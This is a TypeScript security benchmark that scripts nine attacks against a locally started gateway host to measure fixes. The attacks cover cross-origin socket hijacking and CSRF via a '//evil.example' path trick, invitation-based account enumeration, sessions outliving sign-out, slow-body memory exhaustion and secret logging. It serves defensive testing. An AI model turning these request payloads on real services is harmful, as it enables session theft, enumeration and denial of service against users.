// The gateway attacks of issue 20, scripted, with figures: `node --import tsx
// bench/gateway-attacks.ts [--root DIR] [--only name,...]`. DIR is the source tree to attack
// (default: this one), so the same script measures a tree before and after a change. Each attack
// gets a fresh host (bench/gateway-attack-host.ts) in a process of its own; results print as JSON
// lines. Not part of `npm run bench`: it loads the machine on purpose and waits out session checks
// (about 2 minutes against a tree that checks sessions every 60 s).
import { fork, type ChildProcess } from 'node:child_process';
import { connect } from 'node:net';
import { parseArgs } from 'node:util';
import WebSocket from 'ws';
import { PRODUCT_CLIENT } from '../test/fixtures/test-catalog.ts';
import { ROOT, fromRoot } from './root.ts';

const { values } = parseArgs({ options: { root: { type: 'string' }, only: { type: 'string' } } });
const root = values.root ?? ROOT;
const only = values.only?.split(',');
const PRODUCT = 'acme-analytics';
const LIVE = `/planship/api/v1/ws/customers/me/products/${PRODUCT}/entitlements`;
const EVIL = 'http://evil.example';

interface Host {
  origin: string;
  api: string;
  child: ChildProcess;
}

async function startHost(): Promise<Host> {
  const child = fork(fromRoot('bench/gateway-attack-host.ts'), [root], { execArgv: ['--expose-gc', '--import', 'tsx'], stdio: ['ignore', 'inherit', 'inherit', 'ipc'] });
  child.setMaxListeners(0);
  const info = await new Promise<{ origin: string; api: string }>((resolve) => child.once('message', (message) => resolve(message as never)));
  return { ...info, child };
}

let asked = 0;
/** A message to the host and its answer (matched by id: many may be in flight). */
function ask<T>(host: Host, message: unknown, key: string): Promise<T> {
  const id = ++asked;
  return new Promise((resolve) => {
    const listener = (answer: any) => {
      if (answer?.id !== id || !(key in answer)) return;
      host.child.off('message', listener);
      resolve(answer[key]);
    };
    host.child.on('message', listener);
    host.child.send((typeof message === 'string' ? { [message]: true, id } : { ...(message as object), id }) as never);
  });
}

const stop = (host: Host) => new Promise<void>((resolve) => (host.child.once('exit', () => resolve()), host.child.send({ close: true })));
const signIn = (host: Host, user: { id: string; email?: string; name?: string }) => ask<string>(host, { signIn: user }, 'session');
const basic = `Basic ${Buffer.from(`${PRODUCT_CLIENT.clientId}:${PRODUCT_CLIENT.clientSecret}`).toString('base64')}`;

async function admin(host: Host, method: string, path: string, body?: unknown) {
  const response = await fetch(host.api + path, { method, headers: { authorization: basic, 'content-type': 'application/json' }, body: body === undefined ? undefined : JSON.stringify(body) });
  return { status: response.status, body: await response.json().catch(() => undefined) };
}

let serial = 0;
async function person(host: Host, plan?: string) {
  const id = `attack-${process.pid}-${++serial}@example.com`;
  const session = await signIn(host, { id, email: id, name: `Person ${serial}` });
  const created = await admin(host, 'POST', '/api/v1/customers', { alternative_id: id, email: id, name: `Person ${serial}` });
  let subscription: string | undefined;
  if (plan) subscription = (await admin(host, 'POST', `/api/v1/products/${PRODUCT}/plans/${plan}/subscriptions`, { customer_id: created.body.id })).body.id;
  return { id, session, customerId: created.body.id as string, subscription };
}

/** A raw request on a fresh connection: what came back within `waitMs`, and whether the server ended it. */
function raw(host: Host, text: string, waitMs = 3000): Promise<{ text: string; closedByServer: boolean; ms: number }> {
  const { port } = new URL(host.origin);
  const started = performance.now();
  return new Promise((resolve) => {
    const socket = connect(Number(port), '127.0.0.1', () => socket.write(text));
    let received = '';
    let timedOut = false;
    const timer = setTimeout(() => ((timedOut = true), socket.destroy()), waitMs);
    socket.on('data', (chunk) => (received += chunk));
    socket.on('error', () => {});
    socket.on('close', () => {
      clearTimeout(timer);
      resolve({ text: received, closedByServer: !timedOut, ms: Math.round(performance.now() - started) });
    });
  });
}

const statusOf = (text: string) => Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0);
const UPGRADE = 'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';

const attacks: Record<string, (host: Host) => Promise<Record<string, unknown>>> = {
  /** A page on evil.example opens the victim's live socket with a //evil.example/... target. */
  async 'path-trick-socket'(host) {
    const victim = await person(host, 'pro');
    const hostHeader = new URL(host.origin).host;
    let opened = 0;
    let entitlementsSent = 0;
    const tries = 20;
    for (let index = 0; index < tries; index += 1) {
      const answer = await raw(host, `GET //evil.example${LIVE} HTTP/1.1\r\nHost: ${hostHeader}\r\nOrigin: ${EVIL}\r\nCookie: session=${victim.session}\r\n${UPGRADE}\r\n`, 800);
      if (statusOf(answer.text) === 101) opened += 1;
      if (answer.text.includes('api-calls')) entitlementsSent += 1;
    }
    const plain = await raw(host, `GET ${LIVE} HTTP/1.1\r\nHost: ${hostHeader}\r\nOrigin: ${EVIL}\r\nCookie: session=${victim.session}\r\n${UPGRADE}\r\n`, 800);
    return { tries, opened, entitlementsSent, plainPathStatus: statusOf(plain.text) };
  },

  /** Body-less writes through nodeHandler at //evil.example/...: the victim leaves their team. */
  async 'path-trick-write'(host) {
    const owner = await person(host, 'business');
    const victim = await person(host);
    await admin(host, 'POST', `/api/v1/customers/${owner.customerId}/subscriptions/${owner.subscription}/customers`, { customer_id: victim.customerId });
    const hostHeader = new URL(host.origin).host;
    const answer = await raw(
      host,
      `DELETE //evil.example/planship/api/v1/customers/me/subscriptions/${owner.subscription}/customers/me HTTP/1.1\r\nHost: ${hostHeader}\r\nOrigin: ${EVIL}\r\nCookie: session=${victim.session}\r\nContent-Length: 0\r\n\r\n`,
    );
    const members = await admin(host, 'GET', `/api/v1/customers/${owner.customerId}/subscriptions/${owner.subscription}/customers`);
    return { status: statusOf(answer.text), victimStillMember: members.body.some((member: { customer_id: string }) => member.customer_id === victim.customerId) };
  },

  /** 400 invitations: which addresses have an account, and whom they add without consent. */
  async 'invitation-enumeration'(host) {
    const attacker = await person(host, 'business');
    const known = await Promise.all(Array.from({ length: 20 }, () => person(host)));
    // Known and unknown addresses in turn, so any limit falls on both alike.
    const unknown = Array.from({ length: 380 }, (_, index) => `nobody-${index}-${process.pid}@example.com`);
    const addresses = [...known.flatMap((one, index) => [one.id, unknown[index]]), ...unknown.slice(known.length)];
    const started = performance.now();
    const statuses: Record<string, number> = {};
    for (const email of addresses) {
      const response = await fetch(`${host.origin}/planship/api/v1/customers/me/subscriptions/${attacker.subscription}/invites`, {
        method: 'POST',
        headers: { cookie: `session=${attacker.session}`, 'content-type': 'application/json', origin: host.origin },
        body: JSON.stringify({ email, is_administrator: true }),
      });
      const key = `${response.status}${known.some((one) => one.id === email) ? ' known' : ' unknown'}`;
      statuses[key] = (statuses[key] ?? 0) + 1;
      await response.arrayBuffer();
    }
    const members = await admin(host, 'GET', `/api/v1/customers/${attacker.customerId}/subscriptions/${attacker.subscription}/customers`);
    return { invitations: addresses.length, seconds: +((performance.now() - started) / 1000).toFixed(1), statuses, addedWithoutConsent: members.body.length - 1 };
  },

  /** After a sign-out, how long the user's live WebSocket and SSE pages keep receiving frames. */
  async 'session-outlives-sign-out'(host) {
    const leaving = await person(host, 'pro');
    const socket = new WebSocket(`${host.origin.replace('http', 'ws')}${LIVE}`, { headers: { cookie: `session=${leaving.session}`, origin: host.origin } });
    const socketClosed = new Promise<number>((resolve) => socket.once('close', () => resolve(performance.now())));
    await new Promise((resolve) => socket.once('message', resolve));
    const stream = await fetch(`${host.origin}${LIVE}`, { headers: { cookie: `session=${leaving.session}`, accept: 'text/event-stream' } });
    const reader = stream.body!.getReader();
    await reader.read();
    const streamClosed = (async () => {
      for (;;) {
        const { done, value } = await reader.read();
        if (done || new TextDecoder().decode(value).includes('event: close')) return performance.now();
      }
    })();
    const signedOut = performance.now();
    await ask(host, { endSession: leaving.session }, 'ended');
    const limit = new Promise<number>((resolve) => setTimeout(() => resolve(Number.NaN), 75_000));
    const [socketAt, streamAt] = await Promise.all([Promise.race([socketClosed, limit]), Promise.race([streamClosed, limit])]);
    socket.terminate();
    await reader.cancel().catch(() => {});
    return { socketOpenAfterSignOutSeconds: +((socketAt - signedOut) / 1000).toFixed(2), streamOpenAfterSignOutSeconds: +((streamAt - signedOut) / 1000).toFixed(2) };
  },

  /** 2,000 new signed-in ids, just visiting: Planship customers created. */
  async 'visits-create-customers'(host) {
    const visits = 2000;
    const statuses: Record<number, number> = {};
    const started = performance.now();
    for (let batch = 0; batch < visits; batch += 50) {
      await Promise.all(
        Array.from({ length: 50 }, async (_, index) => {
          const id = `visitor-${process.pid}-${batch + index}@example.com`;
          const session = await signIn(host, { id, email: id });
          const response = await fetch(`${host.origin}/planship/portal`, { headers: { cookie: `session=${session}` } });
          statuses[response.status] = (statuses[response.status] ?? 0) + 1;
          await response.arrayBuffer();
        }),
      );
    }
    const { customersCreated } = await ask<{ customersCreated: number }>(host, 'counts', 'counts');
    return { visits, statuses, customersCreated, seconds: +((performance.now() - started) / 1000).toFixed(1) };
  },

  /** 20 cross-origin event streams carrying the victim's cookie, while their own tab is open. */
  async 'cross-origin-streams-evict'(host) {
    const victim = await person(host, 'pro');
    const own = new WebSocket(`${host.origin.replace('http', 'ws')}${LIVE}`, { headers: { cookie: `session=${victim.session}`, origin: host.origin } });
    let ownClose: number | undefined;
    own.on('close', (code) => (ownClose = code));
    await new Promise((resolve) => own.once('message', resolve));
    const statuses: Record<number, number> = {};
    const readers = await Promise.all(
      Array.from({ length: 20 }, async () => {
        const response = await fetch(`${host.origin}${LIVE}`, { headers: { cookie: `session=${victim.session}`, accept: 'text/event-stream', origin: EVIL } });
        statuses[response.status] = (statuses[response.status] ?? 0) + 1;
        return response.body?.getReader();
      }),
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    for (const reader of readers) await reader?.cancel().catch(() => {});
    own.terminate();
    return { streams: statuses, victimTabClosedWith: ownClose ?? 'still open' };
  },

  /** 60 unfinished 1 MiB bodies with no session, then one slow body: memory and how long it stays open. */
  async 'unfinished-bodies'(host) {
    const before = await ask<NodeJS.MemoryUsage>(host, 'memory', 'memory');
    const { port } = new URL(host.origin);
    const chunk = Buffer.alloc(1024 * 1024 - 1024, 'x');
    const sockets = await Promise.all(
      Array.from({ length: 60 }, () =>
        new Promise<{ socket: ReturnType<typeof connect>; ended: boolean }>((resolve) => {
          const state = { socket: undefined as unknown as ReturnType<typeof connect>, ended: false };
          const socket = (state.socket = connect(Number(port), '127.0.0.1', () => {
            socket.write(`PATCH /planship/api/v1/customers/me/subscriptions/x HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/json\r\nContent-Length: ${1024 * 1024}\r\n\r\n`);
            socket.write(chunk, () => resolve(state));
          }));
          // Read what the server says (and notice when it ends the connection).
          socket.resume();
          socket.on('end', () => (state.ended = true));
          socket.on('close', () => (state.ended = true));
          socket.on('error', () => {});
        }),
      ),
    );
    await new Promise((resolve) => setTimeout(resolve, 1000));
    const during = await ask<NodeJS.MemoryUsage>(host, 'memory', 'memory');
    const stillOpen = sockets.filter((state) => !state.ended).length;
    for (const { socket } of sockets) socket.destroy();
    const signedIn = await person(host, 'pro');
    const slow = await raw(
      host,
      `PATCH /planship/api/v1/customers/me/subscriptions/${signedIn.subscription} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/json\r\nCookie: session=${signedIn.session}\r\nContent-Length: 100\r\n\r\n{"auto_`,
      30_000,
    );
    return {
      rssBeforeMB: Math.round(before.rss / 1048576),
      rssDuringMB: Math.round(during.rss / 1048576),
      connectionsStillOpenAfter1s: stillOpen,
      slowBody: { status: statusOf(slow.text), closedByServerAfterMs: slow.closedByServer ? slow.ms : 'not within 30 s' },
    };
  },

  /** identify() throws with a connection string in its message. */
  async 'identify-exception-logged'(host) {
    await ask(host, { identifyThrows: true }, 'set');
    const response = await fetch(`${host.origin}/planship/portal`, { headers: { cookie: 'session=x' } });
    const { logs, secretLogged } = await ask<{ logs: string[]; secretLogged: boolean }>(host, 'counts', 'counts');
    return { status: response.status, secretLogged, logged: logs.at(-1) };
  },

  /** 200 live pages and an identify that takes 25 ms: how long one session re-check round takes. */
  async 'session-check-round'(host) {
    const people = await Promise.all(Array.from({ length: 20 }, () => person(host, 'pro')));
    const sockets = people.flatMap((one) =>
      Array.from({ length: 10 }, () => new WebSocket(`${host.origin.replace('http', 'ws')}${LIVE}`, { headers: { cookie: `session=${one.session}`, origin: host.origin } })),
    );
    await Promise.all(sockets.map((socket) => new Promise((resolve) => socket.once('open', resolve))));
    await ask(host, { identifyDelayMs: 25 }, 'set');
    // One page's session ends; the round that notices it has asked for every page before it.
    const ended = sockets.at(-1)!;
    const closed = new Promise<number>((resolve) => ended.once('close', () => resolve(performance.now())));
    const started = performance.now();
    await ask(host, { endSession: people.at(-1)!.session, signOut: false }, 'ended');
    const closedAt = await Promise.race([closed, new Promise<number>((resolve) => setTimeout(() => resolve(Number.NaN), 75_000))]);
    for (const socket of sockets) socket.terminate();
    return { pages: sockets.length, secondsUntilTheLastPageClosed: +((closedAt - started) / 1000).toFixed(2) };
  },
};

for (const [name, attack] of Object.entries(attacks)) {
  if (only && !only.includes(name)) continue;
  const host = await startHost();
  try {
    console.log(JSON.stringify({ attack: name, ...(await attack(host)) }));
  } catch (error) {
    console.log(JSON.stringify({ attack: name, error: String(error) }));
  } finally {
    await stop(host);
  }
}
